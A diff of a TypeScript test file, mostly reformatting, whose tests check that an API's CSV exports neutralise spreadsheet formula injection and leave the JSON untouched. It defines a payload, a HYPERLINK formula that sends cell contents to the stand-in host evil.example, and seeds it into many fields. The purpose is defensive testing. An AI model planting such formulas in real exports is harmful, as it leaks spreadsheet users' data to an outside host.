@@ -1,9 +1,9 @@
 import { beforeAll, describe, expect, it } from 'vitest';
-import { csvRecords, parseCsv } from '../csv-reader.ts';
-import { adminHeaders, fullAnswers, get, getJson, getParsed, JSON_BODY, request, submit } from '../helpers.ts';
+import { ListPageSchema } from '../../worker/schemas/lists.ts';
 import { SourcePageSchema } from '../../worker/schemas/sources.ts';
 import { HistorySchema, TownSchema } from '../../worker/schemas/towns.ts';
-import { ListPageSchema } from '../../worker/schemas/lists.ts';
+import { csvRecords, parseCsv } from '../csv-reader.ts';
+import { adminHeaders, fullAnswers, get, getJson, getParsed, JSON_BODY, request, submit } from '../helpers.ts';
 
 // Text an editor might type that a spreadsheet would run as a formula (OWASP "CSV injection").
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")';
@@ -44,17 +44,72 @@ let wrongId: number;
 let fixId: number;
 
 beforeAll(async () => {
-  sourceId = (await admin('POST', '/api/v1/admin/sources', { title: HYPERLINK, document_number: SUM, issuer: PLUS, published_on: '2024-05-20', note: CMD })).id;
+  sourceId = (
+    await admin('POST', '/api/v1/admin/sources', {
+      title: HYPERLINK,
+      document_number: SUM,
+      issuer: PLUS,
+      published_on: '2024-05-20',
+      note: CMD,
+    })
+  ).id;
   // Official count 0 and one town: its `missing` is -1, a number we emit that must stay a number.
-  await admin('POST', '/api/v1/admin/lists', { id: LIST, name: SUM, name_en: CMD, level: 'provincial', kind: 'named', province: '北京市', source_id: sourceId, official_count: 0, note: HYPERLINK });
-  await admin('POST', '/api/v1/admin/towns', { id: TOWN, name: HYPERLINK, name_pinyin: 'csv ce shi zhen', province: '-1+2市', city: PLUS, county: SUM, note: CMD });
-  await admin('POST', `/api/v1/admin/lists/${LIST}/towns`, { town_id: TOWN, listed_as: CMD, status: 'named', effective_date: '2024-05-20', source_id: sourceId, status_raw: PLUS, note: SUM });
-  wrongId = (await admin('POST', '/api/v1/admin/events', { town_id: TOWN, list_id: LIST, status: 'warned', effective_date: '2024-06-01', source_id: sourceId, status_raw: SUM, note: HYPERLINK })).id;
-  fixId = (await admin('POST', '/api/v1/admin/events', { town_id: TOWN, list_id: LIST, status: 'retained', effective_date: '2024-06-01', source_id: sourceId, note: CMD, supersedes: wrongId })).id;
+  await admin('POST', '/api/v1/admin/lists', {
+    id: LIST,
+    name: SUM,
+    name_en: CMD,
+    level: 'provincial',
+    kind: 'named',
+    province: '北京市',
+    source_id: sourceId,
+    official_count: 0,
+    note: HYPERLINK,
+  });
+  await admin('POST', '/api/v1/admin/towns', {
+    id: TOWN,
+    name: HYPERLINK,
+    name_pinyin: 'csv ce shi zhen',
+    province: '-1+2市',
+    city: PLUS,
+    county: SUM,
+    note: CMD,
+  });
+  await admin('POST', `/api/v1/admin/lists/${LIST}/towns`, {
+    town_id: TOWN,
+    listed_as: CMD,
+    status: 'named',
+    effective_date: '2024-05-20',
+    source_id: sourceId,
+    status_raw: PLUS,
+    note: SUM,
+  });
+  wrongId = (
+    await admin('POST', '/api/v1/admin/events', {
+      town_id: TOWN,
+      list_id: LIST,
+      status: 'warned',
+      effective_date: '2024-06-01',
+      source_id: sourceId,
+      status_raw: SUM,
+      note: HYPERLINK,
+    })
+  ).id;
+  fixId = (
+    await admin('POST', '/api/v1/admin/events', {
+      town_id: TOWN,
+      list_id: LIST,
+      status: 'retained',
+      effective_date: '2024-06-01',
+      source_id: sourceId,
+      note: CMD,
+      supersedes: wrongId,
+    })
+  ).id;
   // Ten responses to the town (a group is published from 10), so that its province is a group of the satisfaction CSV
   // and its free text is in the export.
   const answers = await fullAnswers('public');
-  for (const [id, value] of Object.entries(answers)) if (typeof value === 'string' && value.includes('test comment')) answers[id] = HYPERLINK;
+  for (const [id, value] of Object.entries(answers))
+    if (typeof value === 'string' && value.includes('test comment')) answers[id] = HYPERLINK;
   for (let i = 0; i < 10; i++) {
     const res = await submit('public', { town_id: TOWN, answers, consent: { participation: true } }, { ip: `192.0.2.${i + 1}` });
     expect(res.status).toBe(201);
@@ -92,7 +147,11 @@ describe('CSV formula injection (issue 11, finding 4)', () => {
     const [town] = csvRecords(await csvOf(`/api/v1/lists/${LIST}/towns?format=csv`));
     expect(town).toMatchObject({ id: TOWN, name: `'${HYPERLINK}`, province: "'-1+2市", city: `'${PLUS}`, county: `'${SUM}` });
     const history = csvRecords(await csvOf(`/api/v1/towns/${TOWN}/history?format=csv`));
-    expect(history.map((e) => [e.status_raw, e.note])).toEqual([[`'${PLUS}`, `'${SUM}`], [`'${SUM}`, `'${HYPERLINK}`], ['', `'${CMD}`]]);
+    expect(history.map((e) => [e.status_raw, e.note])).toEqual([
+      [`'${PLUS}`, `'${SUM}`],
+      [`'${SUM}`, `'${HYPERLINK}`],
+      ['', `'${CMD}`],
+    ]);
     const byList = csvRecords(await csvOf('/api/v1/stats?group_by=list&format=csv')).find((g) => g.key === LIST)!;
     expect(byList.label).toBe(`'${SUM}`);
     const byProvince = csvRecords(await csvOf('/api/v1/satisfaction?group_by=province&format=csv'));
@@ -115,7 +174,12 @@ describe('CSV formula injection (issue 11, finding 4)', () => {
 
   it('changes nothing in the JSON', async () => {
     const { body: sources } = await getParsed(SourcePageSchema, '/api/v1/sources');
-    expect(sources.items.find((s: any) => s.id === sourceId)).toMatchObject({ title: HYPERLINK, document_number: SUM, issuer: PLUS, note: CMD });
+    expect(sources.items.find((s: any) => s.id === sourceId)).toMatchObject({
+      title: HYPERLINK,
+      document_number: SUM,
+      issuer: PLUS,
+      note: CMD,
+    });
     const { body: town } = await getParsed(TownSchema, `/api/v1/towns/${TOWN}`);
     expect(town).toMatchObject({ name: HYPERLINK, province: '-1+2市', city: PLUS, county: SUM, note: CMD });
     const { body: lists } = await getParsed(ListPageSchema, '/api/v1/lists');
@@ -128,7 +192,12 @@ describe('CSVs carry what their JSON says about validity (issue 11, the contract
     const { body } = await getParsed(HistorySchema, `/api/v1/towns/${TOWN}/history`);
     const rows = csvRecords(await csvOf(`/api/v1/towns/${TOWN}/history?format=csv`));
     expect(rows.map((r) => [r.id, r.supersedes, r.superseded_by, r.recorded_at])).toEqual(
-      body.items.map((e: any) => [String(e.id), e.supersedes === null ? '' : String(e.supersedes), e.superseded_by === null ? '' : String(e.superseded_by), e.recorded_at ?? '']),
+      body.items.map((e: any) => [
+        String(e.id),
+        e.supersedes === null ? '' : String(e.supersedes),
+        e.superseded_by === null ? '' : String(e.superseded_by),
+        e.recorded_at ?? '',
+      ]),
     );
     const wrong = rows.find((r) => r.id === String(wrongId))!;
     expect(wrong.superseded_by).toBe(String(fixId));
@@ -155,7 +224,10 @@ describe('CSVs carry what their JSON says about validity (issue 11, the contract
       const entries = items(body).flatMap((item) => Object.entries(item));
       const nested = new Set(entries.filter(([, v]) => v !== null && typeof v === 'object').map(([k]) => k));
       const scalars = new Set(entries.map(([k]) => k).filter((k) => !nested.has(k)));
-      expect([...scalars].filter((k) => !header.includes(k)), csvPath).toEqual([]);
+      expect(
+        [...scalars].filter((k) => !header.includes(k)),
+        csvPath,
+      ).toEqual([]);
     }
   });
 });
